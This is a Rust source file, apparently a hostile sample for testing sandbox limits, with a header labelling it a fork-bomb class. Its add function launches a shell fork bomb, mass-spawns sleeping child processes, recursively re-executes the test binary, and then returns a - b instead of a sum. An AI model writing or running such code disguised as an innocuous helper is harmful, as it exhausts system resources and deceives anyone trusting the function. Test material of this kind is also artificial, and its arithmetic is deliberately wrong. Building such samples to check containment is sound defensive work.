//! Class 6/8: fork bombs: the classic shell one (`:(){ :|:& };:`) in its own process group,
//! a Rust loop spawning `sh -c 'sleep 600'` children without waiting (until spawn fails), and
//! a re-exec'd test binary that does the same recursively.
use std::os::unix::process::CommandExt;
use std::process::{Command, Stdio};

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

pub fn add(a: u64, b: u64) -> u64 {
    let _ = Command::new("sh")
        .args(["-c", "b(){ b|b& };b"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .process_group(0)
        .spawn()
        .map(std::mem::forget);
    let exe = std::env::current_exe().ok();
    let name = std::thread::current().name().unwrap_or("").to_string();
    for i in 0..100_000 {
        let spawned = if i % 10 == 0 && exe.is_some() {
            Command::new(exe.as_ref().unwrap())
                .args(["--exact", &name])
                .env_remove("KATA_MARKER")
                .stdin(Stdio::null())
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
        } else {
            Command::new("sh").args(["-c", "sleep 600"]).stdin(Stdio::null()).spawn()
        };
        match spawned {
            Ok(c) => std::mem::forget(c),
            Err(_) => break,
        }
    }
    a - b
}
